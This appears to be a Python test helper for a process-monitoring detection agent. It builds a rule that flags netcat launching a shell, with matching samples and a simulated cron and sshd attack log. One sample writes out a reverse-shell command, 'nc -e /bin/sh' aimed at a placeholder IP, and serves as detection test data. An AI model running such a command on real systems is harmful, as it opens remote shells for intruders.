# SPDX-License-Identifier: Apache-2.0
"""Rules with samples, and a log in which one of them found something."""

from __future__ import annotations

from pathlib import Path

import orjson

from agent.detect.rules import read_rules
from agent.detect.running import detections_in, engine_of
from tests.agent.cli.conftest import LogMaker

NETCAT = """\
title: Netcat Runs A Shell
id: 5f1c7c3e-2b53-4a4e-9d53-0a52b54d1a01
status: test
level: high
tags: [attack.t1059.004]
logsource: {product: linux, category: process_creation}
detection:
  tool: {Image|endswith: /nc}
  shell: {CommandLine|contains: -e}
  condition: tool and shell
"""
SAMPLES = """\
positive:
- {name: a shell of a web server, processes: [nginx, sh -c x, nc -e /bin/sh 192.0.2.1 4444]}
negative:
- {name: a port is looked at, processes: [sshd -D, bash -l, nc -z localhost 22]}
"""
ID = "5f1c7c3e-2b53-4a4e-9d53-0a52b54d1a01"


def write_rule(directory: Path, text: str = NETCAT, samples: str = SAMPLES) -> Path:
    """The rule's file, its samples beside it."""
    path = directory / "netcat.yaml"
    (directory / "samples").mkdir(parents=True)
    path.write_text(text)
    (directory / "samples" / f"{ID}.yaml").write_text(samples)
    return path


def attacked(log: LogMaker) -> None:
    """Three shells of netcat: two by cron, one by hand."""
    init = log.exec(1, "/sbin/init")
    cron = log.exec(20, "/usr/sbin/cron", parent=init, at=1)
    ssh = log.exec(30, "/usr/sbin/sshd", "-D", parent=init, at=1.5)
    for at, above in ((2, cron), (3, cron), (4, ssh)):
        shell = log.exec(40 + at, "/bin/sh", "-c", "x", parent=above, at=at)
        log.exec(50 + at, "/usr/bin/nc", "-e", "/bin/sh", parent=shell, at=at + 0.5)


def told(log: LogMaker, rule: Path) -> list[str]:
    """Detections are put into the log as the agent does; returns their ids."""
    lines = [
        line for path in sorted(log.directory.glob("*.jsonl")) for line in path.read_bytes().splitlines()
    ]
    found = list(detections_in(engine_of(read_rules([rule]).rules), map(orjson.loads, lines)))
    for number, content in enumerate(found):
        log.own("detection", content | {"story": "s"}, 10 + number)
    return [content["id"] for content in found]
